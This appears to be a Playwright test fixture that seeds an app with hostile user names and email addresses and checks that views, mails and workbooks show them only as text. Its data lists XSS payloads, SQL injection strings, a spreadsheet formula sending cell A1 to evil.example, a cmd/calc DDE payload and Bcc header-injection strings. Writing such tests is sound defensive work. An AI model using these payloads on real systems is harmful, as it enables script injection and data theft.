// Names and addresses that break pages, mails and workbooks, organisations full of people
// who have them, and how a view is looked at that shows them.
import { execFileSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import type { Browser, BrowserContext, Page } from '@playwright/test';
import { Session, email, origin, password, type Person, type Wallet } from './backend';
import { cards } from './cards';
import { newestLink } from './mail';
import { expect, test as base } from './test';

/** Without a blank at which a line could end, and as long as a name may be. */
export const longest = `W${'m'.repeat(198)}W`;

/** Right to left, with what has no direction of its own at both ends. */
export const arabic = '(١) محمد بن عبد الله 42!';

/** Would load an image, and run a script when there is none. */
export const image = '<img src=x onerror="window.__pwned=\'image\'">';

/** A formula, if a spreadsheet takes it for one. */
export const formula = '=HYPERLINK("https://evil.example/?"&A1,"Total")';

/** The names of the members; each is a name to the backend. */
export const names: readonly string[] = [
  longest,
  arabic,
  image,
  formula,
  '<script>window.__pwned=\'script\'</script>',
  '</script><script>window.__pwned=\'closed\'</script>',
  '"><svg onload=window.__pwned=\'svg\'>',
  '\' autofocus onfocus=window.__pwned=\'focus\' x=\'',
  '" onmouseover="window.__pwned=\'mouse\'" style="position:fixed;inset:0',
  'javascript:window.__pwned=\'url\'//',
  '{{constructor.constructor("window.__pwned=1")()}}${window.__pwned=1}#{1}<%=1%>',
  '&lt;b&gt;bold&lt;/b&gt; &amp;amp; &#x3C;i&#62; &nbsp;',
  '<!-- hostile',
  '--><b>hostile</b><!--',
  '<style>*{display:none}</style><base href=//evil.example>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>">',
  '\'); DROP TABLE users; --',
  '" OR ""="',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\u200fשלום כהן, 42 (ב)\u200f',
  'می\u200cخواهم <b>',
  '👩‍❤️‍💋‍👨 👨‍👩‍👧‍👦 🏳️‍🌈 🇨🇭 👍🏽',
  'Z\u0317\u0326a\u0338\u0322lg\u0353o\u0489\u0327\u0315'.normalize('NFC'),
  'wide '.repeat(39) + 'name.',
  '\u{10400}'.repeat(200),
  '李',
  '山田太郎・김철수・王小明',
  '“„‚‘’«»‹›"\'`´′″',
  '_x000D_ _x0041_',
  '\\r\\nBcc: evil@example.com %0d%0aBcc: evil@example.com %00%s%n',
  '=?utf-8?q?=3Cb=3E?= <evil@example.com>,',
  '.*[(+?^$|\\',
  '__proto__',
  'Total',
];

/** What the organisations are called; the first two have the members. */
const organisationNames = [longest, arabic, image, formula, '<!-- hostile', '👨‍👩‍👧‍👦 & "Söhne"'];

/** The name of who owns them. */
const ownersName = '"><img src=x onerror=window.__pwned=\'owner\'>مالك</bdi>';

/** What is no name, and why. */
export const unfitNames = {
  'a line of a header': 'Anna\r\nBcc: evil@example.com',
  'NUL': 'Anna\0',
  'a control character': 'An\u001bna',
  'an override of the direction': 'Anna \u202egnp.exe',
  'an isolate that does not end': 'Anna \u2067',
  'a line separator': 'Anna\u2028Bcc: evil@example.com',
  'nothing that is seen': '\u200b\u2060',
  'too long': 'm'.repeat(201),
} as const;

/** What is no address, and why. */
export const unfitAddresses = {
  'a line of a header': 'anna@example.com\r\nBcc:evil@example.com',
  'NUL': 'an\0na@example.com',
  'a control character': 'an\u001bna@example.com',
  'an override of the direction': 'anna\u202e@example.com',
  'a space of no width': 'an\u200bna@example.com',
  'brackets': '<b>anna</b>@example.com',
  'two of them': 'anna@example.com,evil@example.com',
  'two at signs': 'anna@evil@example.com',
  'a quoted local part': '"anna muster"@example.com',
  'too long': `anna@${'m'.repeat(248)}.ch`,
} as const;

/** Addresses that the backend takes, at a domain of their own; the last is of 254 bytes. */
function hostileAddresses(domain: string): string[] {
  const label = 'm'.repeat(63);
  const local = 'l'.repeat(64);
  const room = 254 - `${local}@.${domain}`.length;
  const labels = `${label}.${label}.${label}`.slice(0, room).replace(/\.$/, 'm');
  return [
    `anna+tag=${'x'.repeat(20)}@${domain}`,
    `bea@xn--bcher-kva.${domain}`,
    `anna@bücher.${domain}`,
    `anna@例え.${domain}`,
    `o'neil--@${domain}`,
    `!#$%&'*+/=?^_{|}~-@${domain}`,
    `=1+1@${domain}`,
    `\`id\`@${domain}`,
    `Zoë@${domain}`,
    `محمد@${domain}`,
    `${local}@${labels}.${domain}`,
  ];
}

/** Somebody of such a name, and what their browser holds. */
export interface Somebody {
  name: string;
  email: string;
  user: string;
  secret: string;
}

/** An organisation of such a name. */
export interface Organisation {
  id: string;
  name: string;
  wallet: Wallet;
  members: Somebody[];
  /** Who has spent, and belongs to it no longer. */
  removed: Somebody[];
  /** Addresses that were invited, and have not answered. */
  invited: string[];
}

/** Who owns organisations of such names, two of which have members who spend. */
export interface World {
  owner: Session;
  organisations: Organisation[];
  /** The two that have members. */
  crowded: [Organisation, Organisation];
}

type Method = 'GET' | 'POST' | 'PUT' | 'DELETE';

/** Asks the backend as the page does, and returns whatever it answers. */
export async function ask(method: Method, path: string, secret?: string, body?: object): Promise<Response> {
  return fetch(`${origin}/api/v1${path}`, {
    method,
    headers: {
      origin,
      'x-relux-credits': '1',
      'content-type': 'application/json',
      'idempotency-key': randomUUID(),
      ...(secret === undefined ? {} : { cookie: `__Host-relux_sid=${secret}` }),
    },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
}

async function good(asked: Promise<Response>): Promise<Response> {
  const answer = await asked;
  if (!answer.ok) throw new Error(`${answer.status} ${answer.url}: ${await answer.text()}`);
  return answer;
}

/** What a link holds. */
export const tokenOf = (link: string): string => link.slice(link.indexOf('#') + 1);

/** Signs somebody up who was invited. */
async function signUp(address: string, name: string): Promise<Somebody> {
  const token = tokenOf(await newestLink(escaped(address)));
  const answer = await good(ask('POST', '/invitations/sign-up', undefined, { token, name, password }));
  const secret = /__Host-relux_sid=([^;]+)/.exec(answer.headers.getSetCookie().join('\n'))?.[1] ?? '';
  const { user } = (await answer.json()) as { user: { id: string; name: string } };
  expect(user.name).toBe(name);
  return { name, email: address, user: user.id, secret };
}

/** An address as it stands in HTML. */
export const escaped = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');

/** Has somebody spend so many images from a shared wallet. */
export async function spend(somebody: Somebody, wallet: Wallet, images: number): Promise<void> {
  const asked = ask('POST', '/desktop-tokens', undefined, { email: somebody.email, password });
  const { token } = (await (await good(asked)).json()) as { token: string };
  const headers = {
    authorization: `Bearer ${token}`,
    'content-type': 'application/json',
    'idempotency-key': randomUUID(),
  };
  const body = JSON.stringify({ images, wallet: wallet.id });
  await good(fetch(`${origin}/api/v1/generations`, { method: 'POST', headers, body }));
}

/** Gives a browser somebody's session. */
export async function signIn(context: BrowserContext, { secret }: { secret: string }): Promise<void> {
  const url = origin.replace(/^http:/, 'https:');
  const cookie = { name: '__Host-relux_sid', value: secret, url, secure: true, httpOnly: true };
  await context.addCookies([{ ...cookie, sameSite: 'Strict' }]);
}

/** Invites an address to an organisation, and returns the link that it was sent. */
export async function invite(owner: Session, organisation: string, address: string): Promise<string> {
  await owner.invite(organisation, address);
  return newestLink(escaped(address));
}

/** Stores a card for a wallet, and buys credits with it. */
async function fund(browser: Browser, { secret }: Session, { id }: Wallet): Promise<void> {
  const opened = await good(ask('POST', `/wallets/${id}/card-page`, secret, { return_to: '/sign-in' }));
  const { url } = (await opened.json()) as { url: string };
  const page = await browser.newPage();
  await page.goto(url);
  await page.getByRole('combobox', { name: 'Card number' }).fill(cards.pays);
  await page.getByRole('textbox', { name: 'Expires' }).fill('12/34');
  await page.getByRole('textbox', { name: 'Security code' }).fill('123');
  await page.getByRole('button', { name: 'Store card' }).click();
  await page.waitForURL(`${origin}/sign-in`);
  await page.close();
  const body = { package: '100', price: { amount_minor: 4_900, currency: 'CHF' } };
  const bought = await good(ask('POST', `/wallets/${id}/purchases`, secret, body));
  const payment = (await bought.json()) as { id: string };
  await expect
    .poll(async () => {
      const answer = await good(ask('GET', `/wallets/${id}/payments/${payment.id}`, secret));
      return JSON.stringify(((await answer.json()) as { state: unknown }).state);
    })
    .toContain('paid');
}

/** Somebody new, whom nobody but this worker knows, and who belongs to nothing. */
async function newcomer(name: string): Promise<Session> {
  // An address as the demo's have it, so that a session is opened for it as for those.
  const person = `hostile.${randomUUID().slice(0, 8)}` as Person;
  const host = await Session.open('elodie.perrin');
  const organisation = host.organisation('Atelier Lumière');
  await host.invite(organisation, email(person));
  const { user, secret } = await signUp(email(person), name);
  await good(ask('DELETE', `/organisations/${organisation}/members/${user}`, secret));
  return Session.open(person);
}

async function found(owner: Session, name: string): Promise<string> {
  const answer = await good(ask('POST', '/organisations', owner.secret, { name }));
  return ((await answer.json()) as { organisation: string }).organisation;
}

/** Invites as many as an organisation may in an hour; those for whom there is a name accept. */
async function crowd(owner: Session, { id }: Organisation, theirs: string[], addresses: string[]): Promise<Somebody[]> {
  const body = { emails: addresses, resend: false };
  const answer = await good(ask('POST', `/organisations/${id}/invitations`, owner.secret, body));
  const { answers } = (await answer.json()) as { answers: { email: string; outcome: string }[] };
  expect(answers).toEqual(addresses.map((email) => ({ email, outcome: 'sent' })));
  const members: Somebody[] = [];
  for (const [nth, name] of theirs.entries()) members.push(await signUp(addresses[nth] ?? '', name));
  return members;
}

async function create(browser: Browser): Promise<World> {
  const founder = await newcomer(ownersName);
  for (const name of organisationNames) await found(founder, name);
  const owner = await Session.open(founder.who.user.email.replace(/@.*/, '') as Person);
  const organisations = organisationNames.map((name): Organisation => {
    return { id: owner.organisation(name), name, wallet: owner.shared(name), members: [], removed: [], invited: [] };
  });
  const [one, two] = organisations;
  if (one === undefined || two === undefined) throw new Error('there are no organisations');
  const half = names.length / 2;
  for (const [organisation, theirs] of [
    [one, names.slice(0, half)],
    [two, names.slice(half)],
  ] as const) {
    const domain = `${randomUUID().slice(0, 8)}.example`;
    // The hostile ones last and first: some accept, some are still waiting.
    const hostile = hostileAddresses(domain);
    const plain = Array.from({ length: 20 - hostile.length }, (_, nth) => `p${nth}@${domain}`);
    const addresses = organisation === one ? [...hostile, ...plain] : [...plain, ...hostile];
    organisation.members = await crowd(owner, organisation, theirs, addresses);
    organisation.invited = addresses.slice(theirs.length);
    await fund(browser, owner, organisation.wallet);
    for (const [nth, member] of organisation.members.entries()) {
      await spend(member, organisation.wallet, 1 + (nth % 3));
    }
  }
  const gone = two.members.pop();
  if (gone !== undefined) {
    await good(ask('DELETE', `/organisations/${two.id}/members/${gone.user}`, owner.secret));
    two.removed.push(gone);
  }
  return { owner, organisations, crowded: [one, two] };
}

interface Watched {
  /** Dialogs of the browser's own that a script has opened. */
  alerts: string[];
}

/** As `test`, with a world, and no script of a name may open a dialog. */
export const test = base.extend<Watched, { world: World }>({
  world: [async ({ browser }, use) => use(await create(browser)), { scope: 'worker', timeout: 240_000 }],

  alerts: [
    async ({ context }, use) => {
      const opened: string[] = [];
      context.on('dialog', (dialog) => {
        opened.push(dialog.message());
        void dialog.dismiss();
      });
      await use(opened);
      expect(opened, 'a script of a name has run').toEqual([]);
    },
    { auto: true },
  ],
});

/** What of a name has become more than text, and which names turn what stands beside them. */
async function flaws(page: Page, shown: readonly string[]): Promise<string[]> {
  return page.evaluate((shown) => {
    const found: string[] = [];
    const { __pwned: pwned } = window as unknown as { __pwned?: unknown };
    if (pwned !== undefined) found.push(`a script has run: ${String(pwned)}`);
    const foreign = 'img, iframe, object, embed, style, base, b, marquee, [srcdoc]';
    const isIsolated = (text: string, name: string): boolean =>
      text
        .split(name)
        .slice(0, -1)
        .every((before, nth, all) => {
          const after = text.slice(all.slice(0, nth + 1).join(name).length + name.length);
          return /[\u2066-\u2068]$/.test(before) && after.startsWith('\u2069');
        });
    for (const element of document.querySelectorAll('body *')) {
      const handler = [...element.attributes].find(({ name }) => name.startsWith('on'));
      const leads = /^\s*javascript:|evil\.example/i.test(element.getAttribute('href') ?? '');
      const isForeign = element.matches(foreign);
      const runs = element instanceof HTMLScriptElement && /pwned/.test(element.text);
      if (handler || leads || isForeign || runs) found.push(`markup: ${element.outerHTML.slice(0, 200)}`);
    }
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT | NodeFilter.SHOW_COMMENT);
    for (let node = walker.nextNode(); node !== null; node = walker.nextNode()) {
      const text = node.nodeValue ?? '';
      if (node instanceof Comment) {
        if (text.includes('hostile')) found.push(`a comment: ${text}`);
        continue;
      }
      const around = node.parentElement;
      // A mail is previewed as it will be sent, without marks.
      if (around === null || !around.checkVisibility() || around.closest('details') !== null) continue;
      const isOwn = around.closest('bdi, [dir="auto"]') !== null;
      for (const name of shown) {
        // A name that is also a word would be found everywhere.
        const turns = /[\u0590-\u08ff\u200f\ufb1d-\ufdff\ufe70-\ufefc]/.test(name);
        if (isOwn || !turns || name.length < 6 || !text.includes(name)) continue;
        if (!isIsolated(text, name)) {
          const place = around.closest('[id]')?.id ?? around.tagName;
          found.push(`not isolated in ${around.tagName.toLowerCase()} of #${place}: ${text.trim().slice(0, 160)}`);
        }
      }
    }
    return [...new Set(found)];
  }, shown);
}

/** Fails with whatever of hostile names is more than text in the view that is shown now. */
export async function expectOnlyText(page: Page, view: string, shown: readonly string[]): Promise<void> {
  expect.soft(await flaws(page, shown), brief(view)).toEqual([]);
}

/** As `expectOnlyText`, and with a screen that scrolls sideways. */
export async function expectHarmless(page: Page, view: string, shown: readonly string[]): Promise<void> {
  for (const width of [360, 1280]) {
    await page.setViewportSize({ width, height: 900 });
    const sideways = await page.evaluate(() => {
      const all = [document.documentElement, ...document.querySelectorAll('dialog[open]')];
      return all.map(({ scrollWidth, clientWidth }) => Math.max(0, scrollWidth - clientWidth));
    });
    expect.soft(Math.max(...sideways), `${brief(view)}: to the side at ${width} px`).toBe(0);
  }
  await expectOnlyText(page, view, shown);
}

/** A view's name without what makes it long. */
const brief = (view: string): string => view.replaceAll(/(.)\1{20,}/gu, '$1…');

/** A text that stands in the sheet itself, as Excel reads it; openpyxl knows its escapes only
 * in the table of texts. */
export const asExcelReads = (text: string): string =>
  text.replaceAll(/_x([\dA-Fa-f]{4})_/g, (_, code: string) => String.fromCharCode(Number.parseInt(code, 16)));

/** What of a workbook's cells is more than a value. */
export interface Special {
  /** Where, and the formula. */
  formulas: [string, string, string][];
  /** Texts that a spreadsheet would calculate once they are edited. */
  unquoted: [string, string, string][];
  links: string[];
}

/** Finds formulas, links, and texts that would become formulas, as openpyxl sees them. */
export function special(path: string): Special {
  const script = `
import json, sys, openpyxl
found = {"formulas": [], "unquoted": [], "links": []}
for sheet in openpyxl.load_workbook(sys.argv[1]).worksheets:
    for row in sheet.iter_rows():
        for cell in row:
            place = [sheet.title, cell.coordinate, str(cell.value)]
            if cell.data_type == "f":
                found["formulas"].append(place)
            elif isinstance(cell.value, str) and cell.value[:1] in ("=", "+", "-", "@", "\\t") and not cell.quotePrefix:
                found["unquoted"].append(place)
            if cell.hyperlink:
                found["links"].append(cell.coordinate)
print(json.dumps(found))
`;
  const python = process.env.RELUX_OPENPYXL ?? 'python3';
  return JSON.parse(execFileSync(python, ['-c', script, path], { encoding: 'utf8' })) as Special;
}
